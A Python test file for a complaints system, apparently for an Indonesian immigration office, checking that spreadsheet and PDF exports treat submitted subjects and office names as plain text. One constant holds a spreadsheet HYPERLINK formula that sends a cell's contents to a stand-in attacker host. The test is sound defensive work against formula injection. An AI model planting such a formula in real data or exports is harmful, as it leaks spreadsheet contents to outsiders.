"""Exports are inert (issue 12, item 2): a public complaint's subject reaches the staff recap as text."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook

from maklumat.complaints.models import Complaint, ComplaintCategory
from maklumat.complaints.tests.factories import open_complaint, team
from maklumat.lib.tests.pdf import pdf_text

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
BROKEN = "Antrean \ufffe macet"


def test_a_formula_subject_from_the_public_form_and_api_arrives_in_the_recap_as_text(client, client_of, pamekasan):
    # given a formula subject through the public form and a subject with U+FFFE through the public API
    form = client.post("/pengaduan/", {
        "office": pamekasan.pk, "category": ComplaintCategory.objects.get(code="other").pk, "subject": FORMULA,
        "reporter_name": "Rina Wati", "reporter_phone": "081234567890",
        "description": "Saya menunggu lebih dari tiga jam di ruang biometrik tanpa kepastian."})
    api = client.post("/api/v1/complaints/public", {
        "office": "pamekasan", "subject": BROKEN, "reporter_name": "Budi", "reporter_email": "budi@example.test",
        "description": "AC ruang tunggu tidak menyala sejak pagi hari ini."}, content_type="application/json")
    assert (form.status_code, api.status_code) == (302, 201)
    assert sorted(Complaint.objects.values_list("subject", flat=True)) == sorted([FORMULA, BROKEN])
    # when the office's staff download the month's recap workbook
    month = pamekasan.local_date().strftime("%Y-%m")
    staff = client_of(team(pamekasan)["kasubsi"])
    response = staff.get(f"/kantor/pamekasan/pengaduan/rekap/?bulan={month}&format=xlsx")
    # then it opens, the formula is a string cell holding the literal text, and U+FFFE is gone
    assert response.status_code == 200
    listing = load_workbook(BytesIO(response.content))["Pengaduan"]
    subjects = {row[4].value: row[4] for row in listing.iter_rows(min_row=2)}
    assert set(subjects) == {FORMULA, "Antrean  macet"}
    assert (subjects[FORMULA].data_type, subjects[FORMULA].quotePrefix) == ("s", True)
    assert all(cell.data_type != "f" for row in listing.iter_rows() for cell in row)


@pytest.fixture
def marked_office(pamekasan):
    pamekasan.name = "Kantor <b>Imigrasi</b> & Pamekasan"
    pamekasan.address = "Jl. <i>Raya</i> & Gang <br/>"
    pamekasan.head_name = "<b>Kepala</b> & Wakil"
    pamekasan.save()
    pamekasan.kanwil.name = "Kanwil <u>Jatim</u> & Co"
    pamekasan.kanwil.save()
    return pamekasan


def test_the_complaint_form_pdf_of_an_office_with_markup_in_its_fields_prints_them_literally(client_of,
                                                                                              marked_office):
    people = team(marked_office)
    complaint = open_complaint(marked_office, people["petugas_yankomas"], at=marked_office.local_now(),
                               subject="<b>tebal</b> & <font>")
    client = client_of(people["kasubsi"])
    filled = client.get(f"/kantor/pamekasan/pengaduan/{complaint.tracking_code}/formulir.pdf")
    blank = client.get("/kantor/pamekasan/pengaduan/formulir-kosong.pdf")
    recap = client.get(f"/kantor/pamekasan/pengaduan/rekap/?bulan={marked_office.local_date():%Y-%m}&format=pdf")
    for response in (filled, blank, recap):
        assert response.status_code == 200
        text = pdf_text(response.content)
        assert "KANTOR <B>IMIGRASI</B> & PAMEKASAN" in text and "KANWIL <U>JATIM</U> & CO" in text
    assert "<b>tebal</b> & <font>" in pdf_text(filled.content)
